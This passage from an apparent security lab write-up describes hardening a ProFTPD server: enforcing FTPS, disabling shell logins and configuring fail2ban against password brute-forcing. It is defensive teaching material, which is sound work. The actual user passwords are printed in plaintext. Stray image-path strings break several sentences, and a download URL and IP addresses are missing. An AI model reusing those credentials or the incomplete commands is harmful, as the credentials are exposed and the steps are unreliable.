  • The ProFTPD server was configured to support FTPS protocol by editing the /etc/proftpd.conf configuration file. Also, the plaintext FTP protocol was disabled and FTPS was enforced. Now ProFTPD will reject plaintext FTP connections. The following screenshot shows the added lines with comments and explanation:
  • Once the configuration was completed, The ProFTPD daemon was restarted, usingthe "service proftpd restart" command. Now, when the Windows 7 built-in FTP.EXE client was used to connect to the server using the plaintext FTP protocol, the server rejected the connection with error message: "550 SSL/TLS required on the control channel."
  • To test the login, the FileZilla FTP client was installed and it was able to successfully log in to the ProFTPD server using SSL/TLS. However, a warning message related to the certificate was shown. This is due to the fact that the certificate is self-signed. Once the certificate was accepted, on successive logins there were no errors. Also, passwords used for the FTP server should be secure and strong. The FTP users should have their shell changed to /bin/false, which will ensure that the FTP users will not be able to login over SSH, telnet,or TTY sessions. This was done using the following commands: # chsh -s /bin/false prithak # chsh -s /bin/false daniel # chsh -s /bin/false chintan # echo /bin/false >> /etc/shells

[3] Countermeasure Against Password Brute-Force Attack To defend against password brute-force attack, the following steps were taken:

  • Strong passwords were chosen and the users' passwords were upgraded. The following commands were used:

# passwd prithak( when prompted for password alj234wkjw&82jlk2133 was entered two times) # passwdchitan( when prompted for password 234aj%2]32[maere was entered two times) # passwddaniel( when prompted for password ;8@#%2./ere$*.0* was entered two times)

  • Fail2ban utility was installed and configured on the ProFTPD system. The Fail2ban utility can detect and prevent password brute-force attack(s) by blocking the IP address(es) of the attacker. It checks the ProFTPD log (/var/log/secure) and, based on the configuration, automatically inserts iptables firewall rule(s) to block the offending IP address. Thefollowing steps were taken to install and configure the fail2ban with ProFTPD:
    • Fail2ban was installed using the following commands (Selvaganeshan, 2010):

# wget # rpm -ivh epel-release-6-8.noarch.rpm # yum install -y fail2ban

    • The /etc/fail2ban/jail.conf file was edited and the following parameters were changed (Selvaganeshan, 2010):

bantime = 600 maxretry = 4 The bantime defines the number of seconds to block the attackers IP and the maxretry parameter is the number of failures allowed before the IP is blocked. So, in this case, if any IP has more than four failed logins, it is banned. Similarly, monitoring ProFTPD logs was also enabled in the "proftpd-iptables" section:

  • Then the fail2ban service was restarted using the following command:

# /etc/init.d/fail2ban restart At the beginning, no IP address was blocked by fail2ban with the help from iptables. The default rule set in fail2ban-ProFTPD chain was empty as shown below:

  • When FTP password brute force attack is carried out from IP address (backtrack) on the ProFTPD server (, the attack is detected and the IP address of the attacker is blocked:

  • The iptables rule to block the IP that was inserted by fail2ban is highlighted below:


ProFTPD server was installed from source and attacked using buffer overflow exploit, password sniffing, and password brute-force attacks. Also, the service was secured using compulsory SSL/TLS certificates and the Fail2ban intrusion detection system and by upgrading the service to the latest version.

Become a Certified Ethical Hacker, guaranteed!

Become a Certified Ethical Hacker, guaranteed!

Get training from anywhere to earn your Certified Ethical Hacker (CEH) Certification — backed with an Exam Pass Guarantee.



Warlock works as a Information Security Professional. He has quite a few global certifications to his name such as CEH, CHFI, OSCP and ISO27001 Lead Implementer. He has experience in penetration testing, social engineering, password cracking and malware obfuscation. He is also involved with various organizations to help them in strengthening the security of their applications and infrastructure.